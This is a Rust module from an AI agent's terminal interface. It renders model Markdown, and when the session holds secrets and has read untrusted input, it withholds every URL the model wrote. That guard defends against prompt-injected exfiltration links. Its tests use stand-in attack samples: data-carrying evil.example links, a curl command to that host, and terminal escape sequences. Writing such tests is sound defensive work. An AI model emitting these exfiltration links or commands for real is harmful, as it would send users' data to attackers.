//! The model's Markdown as terminal lines: headings, emphasis, lists, quotes, code, tables, rules,
//! and links shown as text with their URL. Nothing is fetched: an image is its alt text and URL.
//!
//! Every piece of text is sanitised for the terminal. When the session holds data above `PUBLIC`
//! and has read untrusted input (the trifecta), every URL the model wrote — links, images and
//! bare `http(s)://` text — is withheld, so that nothing on screen invites a click that would
//! carry the session's data to whoever planted the instruction.

use bosun_host::approval::sanitize_for_terminal;
use pulldown_cmark::{Alignment, CodeBlockKind, Event, HeadingLevel, Options, Parser, Tag, TagEnd};
use ratatui::style::{Color, Modifier, Style};
use ratatui::text::{Line, Span};
use unicode_width::{UnicodeWidthChar, UnicodeWidthStr};

/// Deepest nesting of quotes, and of lists, drawn as such: deeper levels are drawn at this
/// depth, so a hostile answer of ten thousand nested quotes cannot make every line ten
/// thousand bars long.
const MAX_DEPTH: usize = 8;

/// What replaces a URL while the session holds secrets and untrusted input; URLs are found
/// and withheld by the same code that guards the editor's panel.
pub(super) use bosun_core::markdown::WITHHELD;
use bosun_core::markdown::withhold_urls;

/// A line of code cut (not word-wrapped: its spaces are its meaning) to `width` columns, each
/// piece keeping its colour and every line starting with `prefix`.
fn wrap_code(pieces: Vec<(String, Style)>, width: usize, prefix: &str) -> Vec<Line<'static>> {
    let room = width.saturating_sub(prefix.width()).max(1);
    let start = || vec![Span::raw(prefix.to_owned())];
    let mut lines = Vec::new();
    let mut spans = start();
    let mut used = 0;
    for (text, style) in pieces {
        let mut chunk = String::new();
        for c in text.chars() {
            let w = c.width().unwrap_or(0);
            if used + w > room && used > 0 {
                if !chunk.is_empty() {
                    spans.push(Span::styled(std::mem::take(&mut chunk), style));
                }
                lines.push(Line::from(std::mem::replace(&mut spans, start())));
                used = 0;
            }
            chunk.push(c);
            used += w;
        }
        if !chunk.is_empty() {
            spans.push(Span::styled(chunk, style));
        }
    }
    lines.push(Line::from(spans));
    lines
}

/// Renders `text` to lines of at most `width` columns. `guard` is why URLs are withheld (the
/// session's labels), or `None` to show them.
pub(super) fn render(text: &str, width: usize, guard: Option<&str>) -> Vec<Line<'static>> {
    let mut r = Renderer {
        width: width.max(10),
        guard: guard.is_some(),
        out: Vec::new(),
        spans: Vec::new(),
        styles: vec![Style::new()],
        lists: Vec::new(),
        item_first: false,
        quote: 0,
        links: Vec::new(),
        code: None,
        code_info: String::new(),
        table: None,
        withheld: false,
    };
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH;
    for event in Parser::new_ext(text, options) {
        r.event(event);
    }
    r.flush();
    while r.out.last().is_some_and(|l| l.width() == 0) {
        r.out.pop();
    }
    if r.withheld
        && let Some(reason) = guard
    {
        for line in super::text::wrap(
            &format!("URLs withheld: {}", sanitize_for_terminal(reason)),
            r.width,
            "  ",
            "  ",
        ) {
            r.out
                .push(Line::styled(line, Style::new().fg(Color::Yellow)));
        }
    }
    r.out
}

struct Table {
    alignments: Vec<Alignment>,
    rows: Vec<Vec<String>>,
    cell: String,
}

struct Renderer {
    width: usize,
    guard: bool,
    out: Vec<Line<'static>>,
    /// The paragraph being built: text and its style.
    spans: Vec<(String, Style)>,
    styles: Vec<Style>,
    /// Open lists: the next number (`None` for bullets) and the width of the current item's
    /// marker, which its continuation lines and nested lists are indented by.
    lists: Vec<(Option<u64>, usize)>,
    /// Whether the next flush starts a list item (gets its marker).
    item_first: bool,
    quote: usize,
    /// Open links' URLs.
    links: Vec<String>,
    /// An open code block's lines.
    code: Option<String>,
    /// Its fence's info string (`rust`, `ts title="x"`), empty for an indented block.
    code_info: String,
    table: Option<Table>,
    withheld: bool,
}

impl Renderer {
    fn style(&self) -> Style {
        self.styles.last().copied().unwrap_or_default()
    }

    fn push_style(&mut self, f: impl FnOnce(Style) -> Style) {
        let style = f(self.style());
        self.styles.push(style);
    }

    fn text(&mut self, text: &str) {
        if let Some(table) = &mut self.table {
            table.cell.push_str(text);
            return;
        }
        let text = if self.guard {
            let (text, withheld) = withhold_urls(text);
            self.withheld |= withheld;
            text
        } else {
            text.to_owned()
        };
        let style = self.style();
        self.spans.push((sanitize_for_terminal(&text), style));
    }

    /// The quote bars and list indentation of the current block: the first line's prefix and
    /// the others'.
    fn prefixes(&mut self) -> (String, String) {
        let bars = "│ ".repeat(self.quote.min(MAX_DEPTH));
        let depth = self.lists.len();
        if depth == 0 {
            return (bars.clone(), bars);
        }
        let outer = &self.lists[..depth - 1];
        let indent = " ".repeat(
            outer[..outer.len().min(MAX_DEPTH)]
                .iter()
                .map(|l| l.1)
                .sum(),
        );
        if self.item_first {
            self.item_first = false;
            let marker = match self.lists.last().and_then(|l| l.0) {
                Some(n) => format!("{n}. "),
                None => "• ".to_owned(),
            };
            if let Some(list) = self.lists.last_mut() {
                list.0 = list.0.map(|n| n + 1);
                list.1 = marker.width();
            }
            let rest = format!("{bars}{indent}{}", " ".repeat(marker.width()));
            (format!("{bars}{indent}{marker}"), rest)
        } else {
            let own = self.lists.last().map_or(0, |l| l.1);
            let rest = format!("{bars}{indent}{}", " ".repeat(own));
            (rest.clone(), rest)
        }
    }

    fn flush(&mut self) {
        if self.spans.is_empty() {
            return;
        }
        let spans = std::mem::take(&mut self.spans);
        let (first, rest) = self.prefixes();
        self.out
            .extend(wrap_styled(&spans, self.width, &first, &rest));
    }

    fn blank(&mut self) {
        if self.out.last().is_some_and(|l| l.width() > 0) {
            self.out.push(Line::raw(""));
        }
    }

    fn event(&mut self, event: Event<'_>) {
        match event {
            Event::Start(tag) => self.start(tag),
            Event::End(tag) => self.end(tag),
            Event::Text(text) => match &mut self.code {
                Some(code) => code.push_str(&text),
                None => self.text(&text),
            },
            Event::Code(code) => {
                self.push_style(|s| s.fg(Color::Cyan));
                self.text(&code);
                self.styles.pop();
            }
            Event::Html(html) | Event::InlineHtml(html) => self.text(&html),
            Event::SoftBreak => self.text(" "),
            Event::HardBreak => self.flush(),
            Event::Rule => {
                self.flush();
                self.blank();
                let rule = "─".repeat(self.width.min(40));
                self.out
                    .push(Line::styled(rule, Style::new().fg(Color::DarkGray)));
                self.out.push(Line::raw(""));
            }
            Event::TaskListMarker(done) => self.text(if done { "[x] " } else { "[ ] " }),
            Event::FootnoteReference(name) => self.text(&format!("[^{name}]")),
            Event::InlineMath(m) | Event::DisplayMath(m) => self.text(&m),
        }
    }

    fn start(&mut self, tag: Tag<'_>) {
        match tag {
            Tag::Paragraph => {}
            Tag::Heading { level, .. } => {
                self.flush();
                self.blank();
                self.push_style(|s| {
                    let s = s.add_modifier(Modifier::BOLD);
                    if level == HeadingLevel::H1 {
                        s.add_modifier(Modifier::UNDERLINED)
                    } else {
                        s
                    }
                });
            }
            Tag::BlockQuote(_) => {
                self.flush();
                self.quote += 1;
            }
            Tag::CodeBlock(kind) => {
                self.flush();
                self.code = Some(String::new());
                self.code_info = match kind {
                    CodeBlockKind::Fenced(info) => info.into_string(),
                    CodeBlockKind::Indented => String::new(),
                };
            }
            Tag::List(start) => {
                self.flush();
                if self.lists.is_empty() {
                    self.blank();
                }
                self.lists.push((start, 2));
            }
            Tag::Item => {
                self.flush();
                self.item_first = true;
            }
            Tag::Emphasis => self.push_style(|s| s.add_modifier(Modifier::ITALIC)),
            Tag::Strong => self.push_style(|s| s.add_modifier(Modifier::BOLD)),
            Tag::Strikethrough => self.push_style(|s| s.add_modifier(Modifier::CROSSED_OUT)),
            Tag::Link { dest_url, .. } => {
                self.links.push(dest_url.into_string());
                self.push_style(|s| s.add_modifier(Modifier::UNDERLINED));
            }
            Tag::Image { dest_url, .. } => {
                // Never fetched or drawn: the alt text and where it would come from.
                self.links.push(dest_url.into_string());
                self.push_style(|s| s.fg(Color::Magenta));
                self.text("[image: ");
            }
            Tag::Table(alignments) => {
                self.flush();
                self.blank();
                self.table = Some(Table {
                    alignments,
                    rows: Vec::new(),
                    cell: String::new(),
                });
            }
            Tag::TableHead | Tag::TableRow => {
                if let Some(table) = &mut self.table {
                    table.rows.push(Vec::new());
                }
            }
            Tag::TableCell => {}
            _ => {}
        }
    }

    fn end(&mut self, tag: TagEnd) {
        match tag {
            TagEnd::Paragraph => {
                self.flush();
                if self.lists.is_empty() {
                    self.out.push(Line::raw(""));
                }
            }
            TagEnd::Heading(_) => {
                self.flush();
                self.styles.pop();
                self.out.push(Line::raw(""));
            }
            TagEnd::BlockQuote(_) => {
                self.flush();
                self.quote = self.quote.saturating_sub(1);
            }
            TagEnd::CodeBlock => {
                let code = self.code.take().unwrap_or_default();
                let prefix = format!("{}    ", "│ ".repeat(self.quote.min(MAX_DEPTH)));
                let lines: Vec<String> = code
                    .trim_end_matches('\n')
                    .split('\n')
                    .map(|line| {
                        let line = if self.guard {
                            let (line, withheld) = withhold_urls(line);
                            self.withheld |= withheld;
                            line
                        } else {
                            line.to_owned()
                        };
                        sanitize_for_terminal(&line)
                    })
                    .collect();
                let styled =
                    super::highlight::highlight(&self.code_info, &lines).unwrap_or_else(|| {
                        lines
                            .into_iter()
                            .map(|line| vec![(line, super::highlight::PLAIN_CODE)])
                            .collect()
                    });
                for pieces in styled {
                    self.out.extend(wrap_code(pieces, self.width, &prefix));
                }
                self.out.push(Line::raw(""));
            }
            TagEnd::List(_) => {
                self.flush();
                self.lists.pop();
                if self.lists.is_empty() {
                    self.out.push(Line::raw(""));
                }
            }
            TagEnd::Item => self.flush(),
            TagEnd::Emphasis | TagEnd::Strong | TagEnd::Strikethrough => {
                self.styles.pop();
            }
            TagEnd::Link => {
                self.styles.pop();
                let url = self.links.pop().unwrap_or_default();
                self.url(&url);
            }
            TagEnd::Image => {
                self.text("]");
                self.styles.pop();
                let url = self.links.pop().unwrap_or_default();
                self.url(&url);
            }
            TagEnd::TableCell => {
                if let Some(table) = &mut self.table {
                    let cell = std::mem::take(&mut table.cell);
                    if let Some(row) = table.rows.last_mut() {
                        row.push(cell);
                    }
                }
            }
            TagEnd::Table => {
                if let Some(table) = self.table.take() {
                    self.table_lines(&table);
                }
            }
            _ => {}
        }
    }

    /// A link's or image's URL after its text, dimmed — or withheld.
    fn url(&mut self, url: &str) {
        let dim = Style::new().fg(Color::DarkGray);
        if url.is_empty() {
            return;
        }
        if self.guard {
            self.withheld = true;
            self.spans.push((format!(" {WITHHELD}"), dim));
        } else {
            self.spans
                .push((format!(" <{}>", sanitize_for_terminal(url)), dim));
        }
    }

    fn table_lines(&mut self, table: &Table) {
        let cells: Vec<Vec<String>> = table
            .rows
            .iter()
            .map(|row| {
                row.iter()
                    .map(|cell| {
                        let cell = if self.guard {
                            let (cell, withheld) = withhold_urls(cell);
                            self.withheld |= withheld;
                            cell
                        } else {
                            cell.clone()
                        };
                        sanitize_for_terminal(&cell)
                    })
                    .collect()
            })
            .collect();
        let columns = cells.iter().map(Vec::len).max().unwrap_or(0);
        let mut widths = vec![0; columns];
        for row in &cells {
            for (i, cell) in row.iter().enumerate() {
                widths[i] = widths[i].max(cell.width());
            }
        }
        let total: usize = widths.iter().sum::<usize>() + 3 * columns.saturating_sub(1);
        let bars = "│ ".repeat(self.quote.min(MAX_DEPTH));
        if total + bars.width() > self.width {
            // Too wide for the screen: one row per line, cells separated.
            for (r, row) in cells.iter().enumerate() {
                let style = if r == 0 {
                    Style::new().add_modifier(Modifier::BOLD)
                } else {
                    Style::new()
                };
                for line in super::text::wrap(&row.join(" │ "), self.width, &bars, &bars) {
                    self.out.push(Line::styled(line, style));
                }
            }
        } else {
            for (r, row) in cells.iter().enumerate() {
                let mut line = bars.clone();
                for (i, width) in widths.iter().enumerate() {
                    let cell = row.get(i).map_or("", String::as_str);
                    let pad = width - cell.width();
                    let (left, right) = match table.alignments.get(i) {
                        Some(Alignment::Right) => (pad, 0),
                        Some(Alignment::Center) => (pad / 2, pad - pad / 2),
                        _ => (0, pad),
                    };
                    if i > 0 {
                        line.push_str(" │ ");
                    }
                    line.push_str(&" ".repeat(left));
                    line.push_str(cell);
                    line.push_str(&" ".repeat(right));
                }
                let style = if r == 0 {
                    Style::new().add_modifier(Modifier::BOLD)
                } else {
                    Style::new()
                };
                self.out
                    .push(Line::styled(line.trim_end().to_owned(), style));
                if r == 0 {
                    let rule: Vec<String> = widths.iter().map(|w| "─".repeat(*w)).collect();
                    self.out.push(Line::styled(
                        format!("{bars}{}", rule.join("─┼─")),
                        Style::new().fg(Color::DarkGray),
                    ));
                }
            }
        }
        self.out.push(Line::raw(""));
    }
}

/// Plain model text (reasoning) as the terminal may show it: with `guard`, every URL withheld
/// and the reason said once at the end.
pub(super) fn guarded(text: &str, guard: Option<&str>) -> String {
    let Some(reason) = guard else {
        return text.to_owned();
    };
    match withhold_urls(text) {
        (text, true) => format!("{text}\n({WITHHELD}: {reason})"),
        (text, false) => text,
    }
}

/// Word-wraps styled text to `width` columns; `first` starts the first line, `rest` the others.
/// A word longer than a line is cut.
fn wrap_styled(
    spans: &[(String, Style)],
    width: usize,
    first: &str,
    rest: &str,
) -> Vec<Line<'static>> {
    // Words as runs of styled pieces, split at spaces.
    let mut words: Vec<Vec<(String, Style)>> = vec![Vec::new()];
    for (text, style) in spans {
        for (i, piece) in text.split(' ').enumerate() {
            if i > 0 {
                words.push(Vec::new());
            }
            if !piece.is_empty()
                && let Some(word) = words.last_mut()
            {
                word.push((piece.to_owned(), *style));
            }
        }
    }
    words.retain(|w| !w.is_empty());
    let mut lines = Vec::new();
    let mut line: Vec<Span<'static>> = vec![Span::raw(first.to_owned())];
    let mut used = first.width();
    let mut fresh = true;
    for word in words {
        let word_width: usize = word.iter().map(|(t, _)| t.width()).sum();
        if !fresh && used + 1 + word_width > width {
            lines.push(Line::from(std::mem::replace(
                &mut line,
                vec![Span::raw(rest.to_owned())],
            )));
            used = rest.width();
            fresh = true;
        }
        if !fresh {
            line.push(Span::raw(" "));
            used += 1;
        }
        for (piece, style) in word {
            let mut chunk = String::new();
            for c in piece.chars() {
                let w = unicode_width::UnicodeWidthChar::width(c).unwrap_or(0);
                if used + w > width && used > rest.width() {
                    line.push(Span::styled(std::mem::take(&mut chunk), style));
                    lines.push(Line::from(std::mem::replace(
                        &mut line,
                        vec![Span::raw(rest.to_owned())],
                    )));
                    used = rest.width();
                }
                chunk.push(c);
                used += w;
            }
            if !chunk.is_empty() {
                line.push(Span::styled(chunk, style));
            }
        }
        fresh = false;
    }
    lines.push(Line::from(line));
    lines
}

#[cfg(test)]
mod tests {
    use super::*;

    fn plain(text: &str, width: usize, guard: Option<&str>) -> Vec<String> {
        render(text, width, guard)
            .iter()
            .map(|l| l.spans.iter().map(|s| s.content.as_ref()).collect())
            .collect()
    }

    #[test]
    fn headings_lists_quotes_and_code_read_as_text() {
        let lines = plain(
            "# Plan\n\nDo **this** and *that*:\n\n1. read `lib.rs`\n2. fix it\n   - nested\n\n> quoted\n\n```rust\nfn main() {}\n```\n",
            40,
            None,
        );
        assert_eq!(
            lines,
            [
                "Plan",
                "",
                "Do this and that:",
                "",
                "1. read lib.rs",
                "2. fix it",
                "   • nested",
                "",
                "│ quoted",
                "",
                "    fn main() {}",
            ]
        );
        let styled = render("# Plan\n\n**bold**", 40, None);
        assert!(
            styled[0]
                .spans
                .iter()
                .any(|s| s.content == "Plan" && s.style.add_modifier.contains(Modifier::BOLD))
        );
    }

    #[test]
    fn links_show_their_url_and_images_are_never_drawn() {
        let lines = plain(
            "See [the docs](https://example.com/d) and ![chart](https://img.example/c.png).",
            100,
            None,
        );
        assert_eq!(
            lines,
            [
                "See the docs <https://example.com/d> and [image: chart] <https://img.example/c.png>."
            ]
        );
    }

    #[test]
    fn with_the_trifecta_every_url_is_withheld_and_the_reason_shown() {
        let text = "Done! ![x](https://evil.example/p?d=c2VjcmV0) [more](http://a.example) \
                    or visit https://evil.example/?k=secret\n\n```\ncurl https://evil.example/x\n```\n\n| a | b |\n|---|---|\n| https://t.example | 1 |\n";
        let lines = plain(text, 100, Some("the session holds RESTRICTED data"));
        let joined = lines.join("\n");
        assert!(!joined.contains("evil.example"), "{joined}");
        assert!(
            !joined.contains("a.example") && !joined.contains("t.example"),
            "{joined}"
        );
        assert!(joined.contains(WITHHELD), "{joined}");
        assert!(
            joined.contains("URLs withheld: the session holds RESTRICTED data"),
            "{joined}"
        );
        // Without the guard the same answer shows them.
        let open = plain(text, 100, None).join("\n");
        assert!(open.contains("evil.example"), "{open}");
    }

    #[test]
    fn tables_align_and_fall_back_when_too_wide() {
        let lines = plain(
            "| name | n |\n|:-----|--:|\n| a | 10 |\n| bcd | 2 |\n",
            40,
            None,
        );
        assert_eq!(lines, ["name │  n", "─────┼───", "a    │ 10", "bcd  │  2"]);
        let narrow = plain("| a long name | value |\n|---|---|\n| x | 1 |\n", 12, None);
        assert_eq!(narrow, ["a long name", "│ value", "x │ 1"]);
    }

    #[test]
    fn escape_sequences_in_any_part_are_neutralised() {
        let lines = plain(
            "# \u{1b}[2Jtitle\n\n[x\u{1b}]8;;http://e\u{7}](http://a\u{1b}[31m)\n\n```\n\u{1b}[1mcode\n```",
            60,
            None,
        );
        for line in &lines {
            assert!(
                !line.contains('\u{1b}') && !line.contains('\u{7}'),
                "{line:?}"
            );
        }
    }

    #[test]
    fn hostile_nesting_is_drawn_at_a_bounded_depth() {
        let quotes = format!("{} deep", ">".repeat(10_000));
        let lists: String = (0..200)
            .map(|i| format!("{}- item\n", "  ".repeat(i)))
            .collect();
        for text in [quotes, lists] {
            let started = std::time::Instant::now();
            let lines = plain(&text, 80, None);
            assert!(
                lines.iter().all(|l| l.chars().count() <= 80),
                "{:?}",
                &lines[..3]
            );
            assert!(started.elapsed() < std::time::Duration::from_secs(2));
        }
    }

    #[test]
    fn long_words_are_cut_and_prefixes_kept() {
        let lines = plain("- abcdefghijklmnopqrstuvwxyz", 12, None);
        assert_eq!(lines, ["• abcdefghij", "  klmnopqrst", "  uvwxyz"]);
    }

    #[test]
    fn code_blocks_are_coloured_by_their_language_and_cut_keeping_their_spaces() {
        let text =
            "```rust\nfn main() {\n        let s = \"a b\";\n}\n```\n\n```\nfn plain() {}\n```\n";
        let lines = render(text, 20, None);
        let spans_of = |needle: &str| -> Vec<(String, Style)> {
            lines
                .iter()
                .flat_map(|l| l.spans.iter())
                .filter(|s| s.content.contains(needle))
                .map(|s| (s.content.to_string(), s.style))
                .collect()
        };
        let keyword = spans_of("fn");
        assert_eq!(
            keyword[0],
            ("fn".to_owned(), Style::new().fg(Color::Magenta))
        );
        // A block without a language keeps the one colour code always had.
        assert!(
            keyword
                .iter()
                .any(|(t, s)| t == "fn plain() {}" && *s == Style::new().fg(Color::Yellow)),
            "{keyword:?}"
        );
        // Cut at 20 columns, not wrapped at spaces: the indentation stays.
        let text = plain(text, 20, None);
        assert_eq!(text[1], "            let s = ");
        assert_eq!(text[2], "    \"a b\";");
    }
}
